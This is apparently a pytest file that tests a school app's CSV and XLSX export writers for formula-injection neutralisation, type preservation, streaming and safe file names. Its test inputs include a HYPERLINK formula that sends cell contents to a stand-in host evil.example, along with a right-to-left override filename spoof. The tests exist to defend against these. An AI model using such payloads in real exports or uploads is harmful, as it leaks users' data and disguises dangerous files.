"""CSV and XLSX writers: formula injection neutralised, types kept, streaming, file names."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from quizcore.documents import files, spreadsheets

#: A table like the students download's.
HEADER = ("Name", "Email", "Registration Number", "Class Name", "Section", "Academic Year",
          "Date of Birth", "Parent Email", "Parent Phone", "Account Claimed", "Active",
          "Created At (UTC)")
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1", "-1+2",
           "@SUM(A1:A9)", "\tTabbed", "\rReturned", "＝1+1"]


def student_row(name):
    return (name, "x@school.example", "REG-1", "Grade 9", "A", "2025-2026",
            dt.date(2011, 4, 30), None, "+44 20 7946 0000", True, False,
            dt.datetime(2026, 1, 31, 14, 5))


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_an_apostrophe_to_formula_starts(text):
    assert spreadsheets.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Ada", "", "1+1", "Иван Петров", " =1", "'=quoted"])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheets.neutralise(text) == text


def test_csv_cells_that_would_run_are_text_and_other_values_keep_their_form():
    data = spreadsheets.csv_bytes(HEADER, [student_row(n) for n in HOSTILE])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(HEADER)
    assert [row[0] for row in rows[1:]] == ["'" + name for name in HOSTILE]
    # A phone number starting with + is text a spreadsheet would evaluate: neutralised too.
    assert rows[1][8] == "'+44 20 7946 0000"
    assert rows[1][6:12] == ["2011-04-30", "", "'+44 20 7946 0000", "yes", "no",
                             "2026-01-31 14:05:00"]


def test_csv_numbers_are_not_treated_as_formulas():
    data = spreadsheets.csv_bytes(["n"], [[-3], [Decimal("-1.50")], [2.5]])
    assert data.decode("utf-8-sig").split("\r\n")[1:4] == ["-3", "-1.50", "2.5"]


def test_csv_is_streamed_in_chunks_with_one_bom():
    chunks = list(spreadsheets.csv_chunks(["n"], ([i] for i in range(2500)), chunk_rows=1000))
    assert len(chunks) == 3
    assert chunks[0].startswith(b"\xef\xbb\xbfn\r\n0\r\n")
    assert sum(chunk.count(b"\xef\xbb\xbf") for chunk in chunks) == 1
    assert b"".join(chunks).decode("utf-8-sig").count("\r\n") == 2501


def test_xlsx_has_no_formula_and_typed_cells():
    book = spreadsheets.XlsxBook()
    book.sheet("Students").table(HEADER, [student_row(n) for n in HOSTILE], freeze=True,
                                 autofilter=True)
    body = book.close()
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = openpyxl.load_workbook(io.BytesIO(body))["Students"]
    assert [c.value for c in sheet[1]] == list(HEADER)
    for row, name in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row, 1)
        # XLSX stores a carriage return as the escape _x000D_ (Excel decodes it, openpyxl
        # does not).
        assert cell.data_type == "s"
        assert cell.value.replace("_x000D_", "\r") == "'" + name
    assert sheet.cell(2, 7).value == dt.datetime(2011, 4, 30)  # a real date cell
    assert sheet.cell(2, 10).value == "yes"
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref


def test_xlsx_numbers_stay_numbers():
    book = spreadsheets.XlsxBook()
    book.sheet("S").write_row(0, [-1, Decimal("2.50"), "-1+2"])
    sheet = openpyxl.load_workbook(io.BytesIO(book.close()))["S"]
    assert [sheet.cell(1, c).value for c in (1, 2, 3)] == [-1, 2.5, "'-1+2"]


# -- file names --------------------------------------------------------------------------------


def test_file_names_drop_bidirectional_overrides():
    assert files.file_name("Essay \u202egpj.exe", extension="pdf") == "Essay gpj.exe.pdf"


def test_file_names_keep_letters_and_drop_path_characters():
    assert files.file_name("results", "Контрольная: №1/2", extension="csv",
                           day=dt.date(2026, 1, 31)) == \
        "results-Контрольная- №1-2-2026-01-31.csv"
    assert files.file_name(None, "", extension="pdf") == "download.pdf"


def test_content_disposition_has_an_ascii_name_and_the_utf8_name():
    header = files.content_disposition("results-Контрольная №1-2026-01-31.csv")
    assert header.startswith('attachment; filename="results-No1-2026-01-31.csv"; ')
    assert header.endswith("filename*=UTF-8''results-%D0%9A%D0%BE%D0%BD%D1%82%D1%80%D0%BE"
                           "%D0%BB%D1%8C%D0%BD%D0%B0%D1%8F%20%E2%84%961-2026-01-31.csv")
    assert files.content_disposition("plain.csv") == 'attachment; filename="plain.csv"'
    assert files.content_disposition("Ëlise.pdf") == \
        "attachment; filename=\"Elise.pdf\"; filename*=UTF-8''%C3%8Blise.pdf"
    assert files.ascii_file_name("Тест.pdf") == "download.pdf"


def test_response_sets_the_download_headers():
    result = files.response(files.Download("a.csv", files.CSV_TYPE, chunks=[b"x", b"y"]))
    assert result.content_type == "text/csv" and result.charset.lower() == "utf-8"
    assert result.headers["Content-Disposition"] == 'attachment; filename="a.csv"'
    assert result.headers["Cache-Control"] == "no-store"
    assert b"".join(result.app_iter) == b"xy"
